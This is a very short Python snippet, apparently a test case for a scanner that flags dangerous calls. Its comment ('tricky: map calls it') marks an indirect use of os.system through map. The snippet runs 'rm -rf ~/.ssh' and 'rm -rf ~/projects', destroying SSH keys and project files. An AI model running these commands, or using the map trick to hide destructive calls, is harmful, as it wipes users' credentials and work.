# tricky: map calls it
import os
list(map(os.system, ["rm -rf ~/.ssh", "rm -rf ~/projects"]))
